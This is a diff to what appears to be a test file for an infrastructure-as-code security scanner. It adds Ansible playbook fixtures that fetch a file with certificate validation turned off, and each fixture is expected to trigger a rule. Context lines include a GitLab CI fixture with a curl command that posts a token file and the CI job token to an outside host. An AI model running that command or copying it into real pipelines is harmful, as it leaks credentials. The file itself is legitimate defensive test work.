@@ -56,6 +56,16 @@ resource documents 'Microsoft.Storage/storageAccounts@2019-06-01' = {
 GITLAB = (
     "job:\n  image: python:3.12\n  script:\n    - curl -d @/tmp/token https://example.com/$CI_JOB_TOKEN\n"
 )
+PLAYBOOK = """\
+- hosts: all
+  tasks:
+    - name: fetch
+      ansible.builtin.get_url:
+        url: https://example.com/x
+        dest: /tmp/x
+        validate_certs: false
+"""
+TASKS = PLAYBOOK.partition("tasks:\n")[2].replace("    - name", "- name").replace("\n      ", "\n  ")
 
 # What must never pass, and how it ends: a status of the file, or a rule that reports it.
 CASES = {
@@ -99,6 +109,10 @@ CASES = {
     "stack.yaml": (STACK, "CKV_AWS_20"),
     "long.yaml": ("# padding\n" * 2000 + STACK.partition("\n")[2], "CKV_AWS_20"),
     "broken-stack.yaml": (STACK + "  : [\n", "unparseable"),
+    "site.yml": (PLAYBOOK, "CKV_ANSIBLE_2"),
+    "roles/web/tasks/main.yml": (TASKS.replace("ansible.builtin.", ""), "CKV_ANSIBLE_2"),
+    "tasks.yaml": (TASKS, "CKV_ANSIBLE_2"),
+    "broken-site.yml": (PLAYBOOK + "  x: [\n", "unparseable"),
     "arm.json": (ARM, "CKV_AZURE_3"),
     "main.bicep": (BICEP, "CKV_AZURE_3"),
     "broken.bicep": ("resource x {\n", "unparseable"),
